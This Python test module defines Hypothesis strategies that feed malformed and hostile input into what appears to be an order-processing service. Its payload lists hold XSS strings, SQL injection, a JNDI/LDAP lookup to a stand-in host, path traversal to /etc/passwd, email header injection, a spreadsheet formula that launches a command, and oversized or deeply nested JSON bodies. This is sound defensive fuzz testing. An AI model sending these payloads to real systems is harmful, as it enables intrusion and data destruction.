"""What poison is: texts, numbers, JSON values and bodies that no honest channel sends, or only a broken one.

What belongs here: the poison itself, as strategies for Hypothesis, made from what is good. What does not: where it is
poured in (`asks`, `poisoned_files`) and what must come of it (the tests).
"""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator
from typing import Any

from hypothesis import strategies as st

Path = tuple[str | int, ...]

# Who sees this in a page or a log sees it where it must not be: in a page it must be escaped.
MARK = "poison"
SCRIPTS = (
    f"<script>{MARK}(1)</script>",
    f'"><img src=x onerror="{MARK}(2)">',
    f"'-{MARK}(3)-'",
    f"javascript:{MARK}(4)",
    f"<svg/onload={MARK}(5)>",
    f"</title></td></table><iframe src=//{MARK}.example>",
    f"&lt;{MARK}&gt; &#60;b&#62;",
)
TEXTS = (
    *SCRIPTS,
    f"'; DROP TABLE orders; -- {MARK}",
    f'" OR 1=1; UPDATE orders SET state = "{MARK}"',
    f"{MARK}' UNION SELECT body FROM inbox --",
    "${jndi:ldap://poison.example/a}",
    "{{7*7}} %s %n {0} $name $$",
    "../../../../etc/passwd",
    "CON.pdf",
    f"{MARK}\r\nBcc: all@example.org\r\n\r\nbody",
    f"{MARK}@example.org\nCc: all@example.org",
    "^XA^FO50,50^FDpoison^FS^XZ",
    "=cmd|' /C calc'!A0",
    "nul\x00byte",
    "bell\x07 escape\x1b[2J\x1b]0;poison\x07",
    "\u202eright to left\u202c \u200b\ufeff",
    "e\u0301\u0327" + "\u0301" * 60,
    "👩‍👩‍👧‍👦 ﷽ 陳美 Łukasz ẞ ı İ",
    "\ud800 half a pair",
    "\uffff\ufffe",
    "A" * 300,
    "ж" * 6_000,
    "- " * 3_000,
    "\n" * 200,
    "",
    " ",
    "null",
    "NaN",
    "true",
    "4111 1111 1111 1111",
    "2026-02-30T25:61:61Z",
    "0000-00-00 00:00:00",
    "9999-12-31T23:59:59-23:59",
    "0001-01-01T00:00:00+23:59",
)
NUMBERS: tuple[Any, ...] = (
    *(0, -1, -29, 1, 100_001, 2**31, 2**63, -(2**63) - 1, 10**63, 10**64, 10**4000),
    *(0.1, -0.0, 1e308, 5e-324, float("nan"), float("inf"), float("-inf")),
    *(
        "-29.00",
        "0.00",
        "29.001",
        "1e3",
        "1E+999999",
        "29,00",
        "1.234,50",
        "0x1D",
        "٣٤",
        "１２",
        "NaN",
        "Infinity",
        "9" * 5000,
    ),
)
CURRENCIES = ("USD", "JPY", "KWD", "XXX", "EURO", "eur", "€", "", "E\x00R", "BTC")
ENCODINGS = ("utf-16", "utf-16-be", "utf-32", "latin-1", "cp1252", "utf-7", "cp037", "shift-jis", "utf-8-sig")

texts = st.sampled_from(TEXTS) | st.text(max_size=40)
numbers = st.sampled_from(NUMBERS) | st.integers() | st.floats()
scalars = texts | numbers | st.sampled_from(CURRENCIES) | st.sampled_from((None, True, False))
values = st.recursive(
    scalars,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(texts, inner, max_size=3),
    max_leaves=6,
)


def places(tree: Any, path: Path = ()) -> Iterator[Path]:
    """Every place below the top of a JSON value."""
    inner = tree.items() if isinstance(tree, dict) else enumerate(tree) if isinstance(tree, list) else ()
    for key, value in inner:
        yield (*path, key)
        yield from places(value, (*path, key))


def at(tree: Any, path: Path) -> Any:
    for key in path:
        tree = tree[key]
    return tree


@st.composite
def worded(draw: st.DrawFn, good: Any) -> Any:
    """The good message with poison where people write: still an order, most of the time."""
    tree = copy.deepcopy(good)
    written = [path for path in places(tree) if isinstance(at(tree, path), str) and path[-1] not in _NOT_FREE]
    for path in draw(st.lists(st.sampled_from(written), min_size=1, max_size=3)):
        at(tree, path[:-1])[path[-1]] = draw(texts)
    return tree


# What a channel computes, and nobody types.
_NOT_FREE = frozenset(
    {"sku", "price", "total", "total_price", "current_total_price", "unit_price", "quantity", "currency", "status"}
    | {"created_at", "updated_at", "sold_at", "date_created_gmt", "date_modified_gmt", "delivery", "subtotal"}
    | {"financial_status", "country_code", "country", "shipping_total", "total_tax", "device"}
)


@st.composite
def spoiled(draw: st.DrawFn, good: Any) -> Any:
    """The good message with one to three of its values replaced, removed, renamed or wrapped."""
    tree = copy.deepcopy(good)
    for _ in range(draw(st.integers(1, 3))):
        path = draw(st.sampled_from(list(places(tree)) or [()]))
        if not path:
            return draw(values)
        parent, key = at(tree, path[:-1]), path[-1]
        how = draw(st.sampled_from(("replace", "replace", "replace", "remove", "wrap", "rename")))
        if how == "replace":
            parent[key] = draw(values)
        elif how == "remove":
            del parent[key]
        elif how == "wrap":
            parent[key] = [parent[key]] if draw(st.booleans()) else {"value": parent[key]}
        elif isinstance(parent, dict):
            parent[draw(texts)] = parent.pop(key)
    return tree


def written(value: Any) -> bytes:
    """JSON as a careless sender writes it: NaN as NaN, halves of surrogate pairs as escapes."""
    return json.dumps(value).encode("ascii")


@st.composite
def bodies(draw: st.DrawFn, good: Any) -> bytes:
    """A body made from a good message: still JSON two times of three, and small but for one in fifty."""
    how = draw(st.sampled_from(_FORMS))
    if how == "worded":
        return written(draw(worded(good)))
    if how == "spoiled":
        return written(draw(spoiled(good)))
    whole = written(good)
    if how == "cut":
        return whole[: draw(st.integers(0, len(whole)))]
    if how == "flipped":
        place = draw(st.integers(0, len(whole) - 1))
        return whole[:place] + draw(st.binary(min_size=1, max_size=4)) + whole[place + 1 :]
    if how == "encoded":
        text = json.dumps(draw(worded(good)), ensure_ascii=False)
        return text.encode(draw(st.sampled_from(ENCODINGS)), "replace")
    if how == "nested":
        depth = draw(st.sampled_from((60, 65, 1_000, 100_000)))
        opening, closing = draw(st.sampled_from(((b"[", b"]"), (b'{"a":', b"}"))))
        return opening * depth + b"1" + closing * draw(st.sampled_from((depth, 0)))
    if how == "digits":
        return whole[:-1] + b',"digits":' + draw(st.sampled_from((b"9", b"-9", b"0.9", b"9e"))) + b"9" * 5_000 + b"}"
    if how == "twice":
        return whole[:-1] + b',"id":1,"id":2,"note":"a","note":"b"}'
    if how == "wide":
        return written({**good, "rest": [{}] * 20_000}) if isinstance(good, dict) else whole
    if how == "huge":
        return whole[:-1] + b',"filler":"' + b"x" * draw(st.sampled_from((1_000_000, 1_048_577, 3_000_000))) + b'"}'
    if how == "value":
        return written(draw(values))
    return draw(st.binary(max_size=200))


_FORMS = (
    *("worded",) * 16,
    *("spoiled",) * 16,
    *(
        "cut",
        "flipped",
        "flipped",
        "encoded",
        "encoded",
        "nested",
        "digits",
        "twice",
        "value",
        "value",
        "binary",
        "binary",
    ),
    *("cut", "flipped", "wide", "huge"),
)
